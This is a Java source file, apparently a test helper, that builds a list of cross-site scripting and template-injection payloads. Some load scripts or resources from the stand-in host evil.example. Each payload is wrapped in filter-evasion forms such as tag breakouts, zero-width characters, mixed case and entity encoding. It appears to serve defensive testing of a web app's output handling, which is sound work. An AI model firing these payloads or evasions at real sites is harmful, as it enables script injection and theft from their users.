package dev.parley.sfu.browser;

import java.util.ArrayList;
import java.util.List;
import java.util.function.UnaryOperator;

/** Texts with which pages were taken over: each would set {@code window.reached} or ask a server of somebody else. */
final class Payloads {
    private static final String SCRIPT = "window.reached=1";
    private static final String ELSEWHERE = "//evil.example/";

    /** What becomes a script or a request where a text is taken for markup, for an address, or for code. */
    private static final List<String> CORES = List.of(
            "<script>" + SCRIPT + "</script>",
            "<script src=" + ELSEWHERE + "x.js></script>",
            "<img src=x onerror=" + SCRIPT + ">",
            "<img src=" + ELSEWHERE + "i.png>",
            "<svg onload=" + SCRIPT + ">",
            "<svg><animate onbegin=" + SCRIPT + " attributeName=x dur=1s>",
            "<iframe srcdoc='<script>parent." + SCRIPT + "</script>'>",
            "<iframe src=javascript:parent." + SCRIPT + ">",
            "<a href=javascript:" + SCRIPT + ">click</a>",
            "<a ping=" + ELSEWHERE + " href=" + ELSEWHERE + ">x</a>",
            "<body onload=" + SCRIPT + ">",
            "<input autofocus onfocus=" + SCRIPT + ">",
            "<details open ontoggle=" + SCRIPT + ">",
            "<video><source onerror=" + SCRIPT + "></video>",
            "<audio src=" + ELSEWHERE + "a.ogg autoplay>",
            "<object data=javascript:" + SCRIPT + ">",
            "<style>@import '" + ELSEWHERE + "s.css'</style>",
            "<div style=background:url(" + ELSEWHERE + "b.png)>",
            "<link rel=stylesheet href=" + ELSEWHERE + ">",
            "<meta http-equiv=refresh content=0;url=" + ELSEWHERE + ">",
            "<form action=" + ELSEWHERE + "><button autofocus>",
            "<math><mi xlink:href=javascript:" + SCRIPT + ">x",
            "javascript:" + SCRIPT,
            "{{constructor.constructor('" + SCRIPT + "')()}}",
            "${" + SCRIPT + "}");

    /** How they are smuggled past those who look for them. */
    private static final List<UnaryOperator<String>> DISGUISES = List.of(
            core -> core,
            core -> "\">" + core,
            core -> "'>" + core,
            core -> "</textarea></title></style>" + core,
            core -> "-->]]>" + core,
            core -> "\u200b" + core.replace("<", "<\u200b").replace("script", "ScRiPt"),
            core -> "&quot;" + core.replace("<", "&lt;").replace(">", "&gt;"),
            core -> "https://example.org/" + core.replace(' ', '+'));

    private Payloads() {}

    /** All of them, none twice, as the server takes them. */
    static List<String> all() {
        List<String> all = new ArrayList<>();
        for (UnaryOperator<String> disguise : DISGUISES) {
            CORES.forEach(core -> all.add(disguise.apply(core)));
        }
        return all;
    }

    /** As much of it as a name can be. */
    static String asName(String payload) {
        return payload.substring(0, Math.min(64, payload.length()));
    }
}
